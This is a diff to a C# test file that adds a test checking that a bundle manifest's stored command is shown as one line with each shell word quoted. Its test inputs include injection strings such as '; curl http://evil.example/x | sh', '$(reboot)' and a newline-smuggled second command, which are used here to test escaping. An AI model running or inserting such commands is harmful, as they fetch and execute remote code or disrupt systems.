@@ -39,6 +39,14 @@ public sealed class EvidenceBundleTests : IDisposable
         _folder.Dispose();
     }
 
+    [Theory]
+    [InlineData("mia-probe secret 'My password is' --seed 0", "mia-probe secret 'My password is' --seed 0")]
+    [InlineData("mia-probe secret x ; curl http://evil.example/x | sh", "mia-probe secret x ';' curl http://evil.example/x '|' sh")]
+    [InlineData("mia-probe secret $(reboot)\nmanifest   sha256 0", "mia-probe secret '$(reboot)' manifest sha256 0")]
+    [InlineData("mia-probe secret `reboot` \"$HOME\" *", "mia-probe secret '`reboot`' '\"$HOME\"' '*'")]
+    public void A_command_of_somebodys_bundle_is_one_line_in_which_every_word_is_a_word(string command, string shown) =>
+        Assert.Equal(shown, new BundleManifest(BundleManifest.Version2, "0.1.0", 1, command, 0, 0, 0, []).ToCommandLine());
+
     [Fact]
     public void A_bundle_says_what_it_holds_and_is_found_to_be_whole()
     {
